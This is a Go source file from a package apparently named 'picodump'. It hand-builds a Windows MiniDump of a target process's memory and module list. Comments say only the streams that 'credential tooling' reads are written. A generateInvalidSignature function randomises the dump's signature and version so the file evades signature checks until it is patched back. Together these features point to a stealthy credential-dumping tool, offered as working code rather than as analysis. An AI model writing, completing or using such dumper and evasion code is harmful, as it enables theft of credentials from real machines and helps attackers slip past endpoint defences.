package picodump

import (
	"crypto/rand"
	"encoding/binary"
	"unicode/utf16"

	"github.com/pkg/errors"
)

// MiniDump container identity. The canonical values are the ones the OS dump
// writer emits; a dump produced without them must be patched back before any
// strict consumer will load it.
const (
	MiniDumpSignature             uint32 = 0x504d444d // "MDMP"
	MiniDumpVersion               uint16 = 42899
	MiniDumpImplementationVersion uint16 = 0
)

type streamType uint32

// Stream directory types, per the on-disk format. Only three streams are
// emitted; credential tooling does not read the rest.
const (
	moduleListStream   streamType = 4
	systemInfoStream   streamType = 7
	memory64ListStream streamType = 9
)

const (
	miniDumpNormal uint32 = 0

	sizeOfHeader           = 32
	sizeOfDirectory        = 12
	sizeOfSystemInfoStream = 48
	sizeOfMiniDumpModule   = 108
)

const productTypeWorkstation byte = 1 // VER_NT_WORKSTATION

// generateInvalidSignature picks random identity values that deviate from
// the canonical constants but keep the rest of the container parseable.
func generateInvalidSignature() (sig uint32, version, implVersion uint16, err error) {
	var b [8]byte
	for {
		if _, err = rand.Read(b[:]); err != nil {
			return 0, 0, 0, errors.Wrap(err, "generate invalid signature")
		}
		sig = binary.LittleEndian.Uint32(b[0:4])
		if sig != MiniDumpSignature {
			break
		}
	}
	version = binary.LittleEndian.Uint16(b[4:6])
	implVersion = binary.LittleEndian.Uint16(b[6:8])
	return sig, version, implVersion, nil
}

// encodeDumpString renders a length-prefixed UTF-16 string blob. The prefix
// counts the bytes that follow; the terminator is included only when asked,
// matching what each stream expects.
func encodeDumpString(s string, terminated bool) []byte {
	chars := utf16.Encode([]rune(s))
	if terminated {
		chars = append(chars, 0)
	}
	out := make([]byte, 4+2*len(chars))
	binary.LittleEndian.PutUint32(out, uint32(2*len(chars)))
	for i, u := range chars {
		binary.LittleEndian.PutUint16(out[4+2*i:], u)
	}
	return out
}

// writeDump emits the complete artifact into the context buffer: header,
// stream directory, SystemInfo, ModuleList, Memory64List, then the raw
// memory contents. Every record is laid out by hand so the on-disk packing
// is exact.
func (dc *dumpContext) writeDump() error {
	if err := dc.writeHeader(); err != nil {
		return err
	}
	if err := dc.writeDirectories(); err != nil {
		return err
	}
	if err := dc.writeSystemInfoStream(); err != nil {
		return err
	}
	modules, err := dc.writeModuleListStream()
	if err != nil {
		return err
	}
	return dc.writeMemory64ListStream(modules)
}

func (dc *dumpContext) writeHeader() error {
	header := make([]byte, sizeOfHeader)
	binary.LittleEndian.PutUint32(header[0:], dc.signature)
	binary.LittleEndian.PutUint16(header[4:], dc.version)
	binary.LittleEndian.PutUint16(header[6:], dc.implementationVersion)
	binary.LittleEndian.PutUint32(header[8:], 3) // SystemInfo, ModuleList, Memory64List
	binary.LittleEndian.PutUint32(header[12:], sizeOfHeader)
	binary.LittleEndian.PutUint32(header[16:], 0) // CheckSum
	binary.LittleEndian.PutUint32(header[20:], 0) // Reserved
	binary.LittleEndian.PutUint32(header[24:], 0) // TimeDateStamp
	binary.LittleEndian.PutUint32(header[28:], miniDumpNormal)
	return dc.append(header)
}

// writeDirectories reserves the three directory entries. DataSize and Rva
// are back-patched once each stream body has been emitted.
func (dc *dumpContext) writeDirectories() error {
	for _, typ := range []streamType{systemInfoStream, moduleListStream, memory64ListStream} {
		dir := make([]byte, sizeOfDirectory)
		binary.LittleEndian.PutUint32(dir[0:], uint32(typ))
		if err := dc.append(dir); err != nil {
			return err
		}
	}
	return nil
}

// patchDirectory fills in the size and RVA of directory entry index.
func (dc *dumpContext) patchDirectory(index int, size, rva uint32) {
	offset := uint32(sizeOfHeader + index*sizeOfDirectory)
	dc.writeUint32At(offset+4, size)
	dc.writeUint32At(offset+8, rva)
}

func (dc *dumpContext) writeSystemInfoStream() error {
	info, err := dc.target.OSInfo()
	if err != nil {
		return err
	}

	body := make([]byte, sizeOfSystemInfoStream)
	binary.LittleEndian.PutUint16(body[0:], info.ProcessorArchitecture)
	// ProcessorLevel, ProcessorRevision and NumberOfProcessors stay zero;
	// filling them would take extra syscalls the consumers never read.
	body[7] = productTypeWorkstation
	binary.LittleEndian.PutUint32(body[8:], info.MajorVersion)
	binary.LittleEndian.PutUint32(body[12:], info.MinorVersion)
	binary.LittleEndian.PutUint32(body[16:], info.BuildNumber)
	binary.LittleEndian.PutUint32(body[20:], info.PlatformID)
	// CSDVersionRva at 24 is back-patched below; SuiteMask, Reserved2 and
	// the processor feature words stay zero.

	streamRVA := dc.rva
	if err := dc.append(body); err != nil {
		return err
	}
	dc.patchDirectory(0, sizeOfSystemInfoStream, streamRVA)

	// The service pack name trails the fixed body as a length-prefixed
	// UTF-16 blob; its RVA lands back inside the body.
	spRVA := dc.rva
	if err := dc.append(encodeDumpString(info.CSDVersion, false)); err != nil {
		return err
	}
	dc.writeUint32At(streamRVA+24, spRVA)

	return nil
}

func (dc *dumpContext) writeModuleListStream() ([]*Module, error) {
	modules, err := dc.target.Modules(dc.allModules)
	if err != nil {
		return nil, err
	}
	if len(modules) == 0 {
		return nil, ErrNoImportantModules
	}

	// Pass 1: the full pathname of every module, terminator included.
	for _, m := range modules {
		m.nameRVA = dc.rva
		if err := dc.append(encodeDumpString(m.Path, true)); err != nil {
			return nil, err
		}
	}

	streamRVA := dc.rva
	count := make([]byte, 4)
	binary.LittleEndian.PutUint32(count, uint32(len(modules)))
	if err := dc.append(count); err != nil {
		return nil, err
	}

	// Pass 2: the fixed-size module records, referring back to each name.
	// Version info, CodeView and misc locators and both reserved qwords
	// are left zero.
	for _, m := range modules {
		record := make([]byte, sizeOfMiniDumpModule)
		binary.LittleEndian.PutUint64(record[0:], m.Base)
		binary.LittleEndian.PutUint32(record[8:], m.Size)
		binary.LittleEndian.PutUint32(record[12:], m.Checksum)
		binary.LittleEndian.PutUint32(record[16:], m.Timestamp)
		binary.LittleEndian.PutUint32(record[20:], m.nameRVA)
		if err := dc.append(record); err != nil {
			return nil, err
		}
	}

	dc.patchDirectory(1, uint32(4+len(modules)*sizeOfMiniDumpModule), streamRVA)

	return modules, nil
}

func (dc *dumpContext) writeMemory64ListStream(modules []*Module) error {
	streamRVA := dc.rva

	ranges, err := collectMemoryRanges(dc.target, modules)
	if err != nil {
		return err
	}

	// The raw contents follow the descriptor table contiguously, so the
	// base RVA is known before anything is emitted.
	streamSize := uint32(16 + 16*len(ranges))
	head := make([]byte, 16)
	binary.LittleEndian.PutUint64(head[0:], uint64(len(ranges)))
	binary.LittleEndian.PutUint64(head[8:], uint64(streamRVA)+uint64(streamSize))
	if err := dc.append(head); err != nil {
		return err
	}

	for _, r := range ranges {
		desc := make([]byte, 16)
		binary.LittleEndian.PutUint64(desc[0:], r.Base)
		binary.LittleEndian.PutUint64(desc[8:], r.Size)
		if err := dc.append(desc); err != nil {
			return err
		}
	}

	dc.patchDirectory(2, streamSize, streamRVA)

	failed := 0
	for _, r := range ranges {
		scratch := make([]byte, r.Size)
		if err := dc.target.ReadMemory(r.Base, scratch); err != nil {
			// The range stays in the dump with its declared size; its
			// bytes are the zero fill the read left behind.
			if !errors.Is(err, ErrPartialCopy) {
				failed++
			}
			dc.log.WithError(err).WithFields(map[string]interface{}{
				"base": r.Base,
				"size": r.Size,
			}).Debug("memory range read failed, continuing")
		}
		if err := dc.append(scratch); err != nil {
			scrub(scratch)
			return err
		}
		scrub(scratch)
	}
	if len(ranges) > 0 && failed == len(ranges) {
		return errors.Wrap(ErrReadFailed, "every memory range failed to read")
	}

	return nil
}

func scrub(b []byte) {
	for i := range b {
		b[i] = 0
	}
}
